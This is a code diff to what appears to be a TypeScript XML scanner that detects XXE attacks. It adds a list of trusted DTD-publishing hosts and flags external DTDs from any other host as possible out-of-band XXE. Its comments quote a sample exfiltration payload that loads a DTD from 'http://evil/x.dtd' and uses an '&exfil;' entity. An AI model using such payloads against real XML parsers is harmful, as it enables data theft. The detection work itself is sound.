@@ -17,10 +17,10 @@
  * - `xxe.entity-expansion` (high): an entity whose value references two or more other entities.
  * - `xxe.xinclude` (high): an XInclude element.
  * - `xxe.external-dtd`: a DOCTYPE that loads its DTD from `file:`, `ftp:`, `php:`, `jar:`, `netdoc:`… is
- *   high; from `http(s):` (how real documents name their grammar: Cobertura reports, Hibernate and
- *   Spring configs) it is medium, and high only when the document then uses an entity that only the
- *   external DTD can define (`<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x>&exfil;</x>`); a relative DTD
- *   (`"note.dtd"`) is medium. W3C DTDs (XHTML, SVG, MathML) and `about:legacy-compat` pass.
+ *   high; from `http(s):` it is high unless the host publishes well-known DTDs (how real documents
+ *   name their grammar: Cobertura reports, Hibernate and Spring configs, Apple plists: medium), or
+ *   when the document uses an entity that only the external DTD can define
+ *   (`<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x>&exfil;</x>`); a relative DTD (`"note.dtd"`) is medium. W3C DTDs (XHTML, SVG, MathML) and `about:legacy-compat` pass.
  * - `xxe.internal-entity` (high): a self-contained DTD (no external identifier) that declares its own
  *   text entity: the probe for DTD processing; medium when the DOCTYPE references a published DTD
  *   (DocBook, Illustrator SVG exports declare entities that way) and low when the entity only names a
@@ -132,6 +132,30 @@ function isW3cDtd(uri: string): boolean {
     u === 'about:legacy-compat' ||
     u.startsWith('http://www.w3c.org/')
   );
+}
+
+/**
+ * Hosts whose DTDs real documents reference (Java EE and framework configs, Cobertura and JUnit
+ * reports, Apple property lists, DocBook, OASIS): those stay medium. Suffix match on the host.
+ */
+const DTD_PUBLISHERS: readonly string[] = [
+  'apache.org', 'sun.com', 'oracle.com', 'jcp.org', 'springframework.org', 'hibernate.org', 'jboss.org',
+  'sourceforge.net', 'mybatis.org', 'ibatis.com', 'eclipse.org', 'netbeans.org', 'apple.com', 'microsoft.com',
+  'docbook.org', 'oasis-open.org', 'getahead.org', 'directwebremoting.org', 'opensymphony.com', 'tuckey.org',
+  'puppycrawl.com', 'checkstyle.org', 'google.com', 'android.com', 'mozilla.org', 'gnome.org', 'freedesktop.org',
+  'kde.org', 'ietf.org', 'iso.org', 'w3c.org', 'w3.org', 'xml.org', 'openoffice.org', 'apache.com',
+];
+
+function isPublishedDtdHost(uri: string): boolean {
+  const u = uri.trim().toLowerCase();
+  const a = u.indexOf('://');
+  if (a === -1) return true; // relative (`note.dtd`): no fetch from elsewhere
+  let e = a + 3;
+  while (e < u.length && e - a < 260 && u.charCodeAt(e) !== 47 && u.charCodeAt(e) !== 58 && u.charCodeAt(e) !== 63 && u.charCodeAt(e) !== 35) e++;
+  const at = u.lastIndexOf('@', e);
+  const host = u.slice(at > a ? at + 1 : a + 3, e);
+  for (const p of DTD_PUBLISHERS) if (host === p || host.endsWith('.' + p)) return true;
+  return false;
 }
 
 /**
@@ -261,6 +285,10 @@ function doctype(s: string, i: number, st: State): number {
         // only that DTD can define: `<!DOCTYPE x SYSTEM "http://evil/x.dtd"><x>&exfil;</x>`.
         if (usesUndeclaredEntity(s, j, st)) {
           report(st, 'xxe.external-dtd', 'high', 'DOCTYPE loads an external DTD and the document uses an entity only that DTD defines.');
+        } else if (!isPublishedDtdHost(uri)) {
+          // Blind out-of-band XXE needs nothing in the document: the fetched DTD declares and uses its
+          // own parameter entities. A DTD from a host that publishes no schema grammar is that probe.
+          report(st, 'xxe.external-dtd', 'high', 'DOCTYPE loads an external DTD from a host that publishes no well-known DTDs (out-of-band XXE).');
         } else {
           report(st, 'xxe.external-dtd', 'medium', `DOCTYPE references an external DTD (${ext.kind}).`);
         }
